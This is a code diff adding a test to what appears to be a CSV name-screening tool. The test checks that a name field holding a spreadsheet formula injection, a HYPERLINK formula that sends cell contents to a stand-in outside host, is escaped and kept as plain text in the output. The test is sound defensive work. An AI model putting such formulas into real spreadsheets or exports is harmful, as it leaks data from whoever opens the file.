@@ -165,6 +165,11 @@ describe('with a list', () => {
     expect(rows[1]).toMatch(/^3,2,Anna Ek,clear,,,,,,local 2/u)
   })
 
+  test('a name that a spreadsheet would run as a formula stands as text in the results', async () => {
+    const { out } = await screened('id,name\n-7,"=HYPERLINK(""http://elsewhere.example/""&A1)"\n')
+    expect(out).toContain(`2,-7,"'=HYPERLINK(""http://elsewhere.example/""&A1)",clear,`)
+  })
+
   test('a file can be registered, and bad options change nothing', async () => {
     const { result } = await screened('id,name\nf-1,Aleksandr Petrov\n', '--register', 'customer')
     expect(result).toMatchObject({ code: 0, lines: [{ hits: 1 }] })
